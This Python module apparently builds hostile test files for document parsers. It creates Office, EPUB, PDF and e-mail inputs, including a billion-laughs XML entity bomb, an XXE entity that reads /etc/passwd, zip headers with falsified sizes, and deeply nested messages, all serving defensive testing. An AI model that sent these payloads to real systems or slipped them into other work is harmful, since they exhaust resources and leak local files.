"""Makes files that hurt their readers."""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

from docx import Document
from openpyxl import Workbook
from pptx import Presentation

WORD_BODY = "word/document.xml"
SLIDE = "ppt/slides/slide1.xml"
SHEET = "xl/worksheets/sheet1.xml"
Change = Callable[[bytes], bytes]


def make_office_file(kind: str) -> bytes:
    """A docx, pptx or xlsx that says "potatoes"."""
    content = io.BytesIO()
    if kind == "docx":
        document = Document()
        document.add_paragraph("potatoes")
        document.save(content)
    elif kind == "pptx":
        presentation = Presentation()
        slide = presentation.slides.add_slide(presentation.slide_layouts[5])
        slide.shapes.title.text = "potatoes"
        presentation.save(content)
    else:
        workbook = Workbook()
        workbook.active.append(["potatoes", "minutes"])
        workbook.active.append(["large", 20])
        workbook.save(content)
    return content.getvalue()


def make_epub(chapter: str, href: str = "one.xhtml") -> bytes:
    container = (
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
        '<rootfiles><rootfile full-path="book.opf"/></rootfiles></container>'
    )
    package = (
        f'<package xmlns="x"><manifest><item id="a" href="{href}" '
        'media-type="application/xhtml+xml"/></manifest>'
        '<spine><itemref idref="a"/></spine></package>'
    )
    return make_archive(
        {
            "mimetype": b"application/epub+zip",
            "META-INF/container.xml": container.encode(),
            "book.opf": package.encode(),
            "one.xhtml": chapter.encode(),
        }
    )


def make_archive(members: dict[str, bytes]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return content.getvalue()


def alter(content: bytes, member: str, change: Change) -> bytes:
    """The archive with one member changed."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members[member] = change(members[member])
    return make_archive(members)


def add_member(content: bytes, name: str, body: bytes) -> bytes:
    """The archive with one more member."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = {member: archive.read(member) for member in archive.namelist()}
    return make_archive({**members, name: body})


def alter_office_file(kind: str, member: str, change: Change) -> bytes:
    return alter(make_office_file(kind), member, change)


def insert_before(mark: bytes, body: bytes) -> Change:
    return lambda content: content.replace(mark, body + mark)


def declare(entities: str, word: bytes) -> Change:
    """Puts a document type before the root element, and its last entity instead of `word`."""

    def change(body: bytes) -> bytes:
        declaration = re.match(rb"(<\?xml[^>]*>)?\s*", body)
        assert declaration is not None
        root = body[declaration.end() :].replace(word, b"&l11;", 1)
        return declaration[0] + entities.encode() + root

    return change


def replace_rows(rows: bytes) -> Change:
    """Puts these rows into a sheet, and drops its stated dimension."""

    def change(body: bytes) -> bytes:
        body = re.sub(rb"<dimension[^>]*>", b"", body)
        return re.sub(rb"<sheetData>.*</sheetData>", b"<sheetData>" + rows + b"</sheetData>", body)

    return change


def misstate_size(content: bytes, member: str, size: int) -> bytes:
    """The archive whose member says in both of its headers that it unpacks to `size` bytes."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        info = archive.getinfo(member)
    central = content.index(b"PK\x01\x02")
    while not content.startswith(member.encode(), central + 46):
        central = content.index(b"PK\x01\x02", central + 4)
    assert struct.unpack_from("<I", content, central + 24)[0] == info.file_size
    changed_content = bytearray(content)
    struct.pack_into("<I", changed_content, info.header_offset + 22, size)
    struct.pack_into("<I", changed_content, central + 24, size)
    return bytes(changed_content)


POTATOES = b"BT /F1 12 Tf 72 700 Td (potatoes) Tj ET"  # PDF operators that draw the word
PDF_PAGE = (
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
    b"/Resources<</Font<</F1 3 0 R>>>>>>"
)


def make_pdf(num_pages: int, stream: bytes = POTATOES, children: str | None = None) -> bytes:
    """A PDF whose pages share one stream; `children` replaces those of its page tree."""
    if children is None:
        children = " ".join(f"{5 + number} 0 R" for number in range(num_pages))
    compressed_stream = zlib.compress(stream, 9)
    stream_head = f"<</Length {len(compressed_stream)}/Filter/FlateDecode>>stream\n".encode()
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        f"<</Type/Pages/Count {num_pages}/Kids[{children}]>>".encode(),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        stream_head + compressed_stream + b"\nendstream",
        *[PDF_PAGE] * num_pages,
    ]
    content = bytearray(b"%PDF-1.4\n")
    table = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n"
    for number, body in enumerate(objects, start=1):
        table += f"{len(content):010} 00000 n \n"
        content += f"{number} 0 obj".encode() + body + b"\nendobj\n"
    start = len(content)
    trailer = f"trailer<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF"
    return bytes(content) + table.encode() + trailer.encode()


MAIL_HEAD = b"From: a@example.org\nTo: b@example.org\nSubject: potatoes\nMIME-Version: 1.0\n"


def forward(times: int) -> bytes:
    """An e-mail in an e-mail in an e-mail."""
    forwarding = MAIL_HEAD + b"Content-Type: message/rfc822\n\n"
    return forwarding * times + MAIL_HEAD + b"\npotatoes\n"


def nest_multiparts(depth: int) -> bytes:
    parts = b""
    for number in range(depth):
        parts += b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (number, number)
    return MAIL_HEAD + parts + b"Content-Type: text/plain\n\npotatoes\n"


def billion_laughs() -> str:
    """Entities of which each repeats the one before ten times."""
    entities = '<!ENTITY l0 "ha">'
    for number in range(1, 12):
        repetition = f"&l{number - 1};" * 10
        entities += f'<!ENTITY l{number} "{repetition}">'
    return f"<!DOCTYPE a [{entities}]>"


SECRET = '<!DOCTYPE a [<!ENTITY l11 SYSTEM "file:///etc/passwd">]>'
